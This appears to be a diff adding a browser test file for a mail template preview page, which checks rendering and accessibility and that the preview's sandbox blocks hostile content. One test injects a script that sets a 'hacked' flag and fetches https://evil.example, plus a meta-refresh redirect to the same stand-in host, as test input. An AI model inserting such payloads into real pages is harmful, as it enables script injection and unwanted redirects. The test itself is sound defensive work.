@@ -1,0 +1,46 @@
+import { expect, it } from "vitest";
+import { renderPreview } from "../../src/pages/mail-preview-page.ts";
+import { builtInTemplates } from "../../src/mails/built-in/templates.ts";
+import { renderMail, scopeOf } from "../../src/mails/render-mail.ts";
+import { sampleMail } from "../../src/mails/sample-mail.ts";
+import {
+  describeInBrowser,
+  findBarriers,
+  takeScreenshot,
+  viewports,
+  type ViewportName,
+} from "../support/browser.ts";
+import { hostileTexts } from "../support/hostile-texts.ts";
+
+describeInBrowser("the page of a preview", (browser) => {
+  it("shows subject, HTML and text, without barriers", async () => {
+    const mail = await renderMail(builtInTemplates.map, scopeOf(sampleMail("map")));
+    for (const viewport of Object.keys(viewports) as ViewportName[]) {
+      const { page, context } = await browser.open(undefined, { viewport });
+      await context.route("**", (route) => route.abort());
+      await page.setContent(renderPreview("map", mail));
+      await page.frameLocator("iframe").getByText("Write a review").first().waitFor();
+      expect(await page.locator("pre").textContent()).toContain("Write a review: https://");
+      expect(await page.locator("strong").textContent()).toBe(mail.subject);
+      await takeScreenshot(page, `preview-${viewport}`);
+      expect(await findBarriers(page)).toEqual([]);
+    }
+  });
+
+  it.each(hostileTexts)("runs and sends nothing of what a template holds: %j", async (text) => {
+    const { page, context } = await browser.open();
+    const asked: string[] = [];
+    await context.route("**", (route) => {
+      asked.push(route.request().resourceType());
+      return route.abort();
+    });
+    const html = `<p>begin</p>${text}<script>parent.hacked = top.hacked = 1; fetch("https://evil.example")</script>
+      <meta http-equiv="refresh" content="0; url=https://evil.example"><p>end</p>`;
+    await page.setContent(renderPreview(text, { subject: text, text, html }));
+    await page.frameLocator("iframe").getByText("begin").waitFor();
+    await page.waitForTimeout(50);
+    expect(await page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined();
+    expect(page.frames().every((frame) => !frame.url().startsWith("http"))).toBe(true);
+    expect(asked.filter((kind) => kind !== "image")).toEqual([]);
+  });
+});
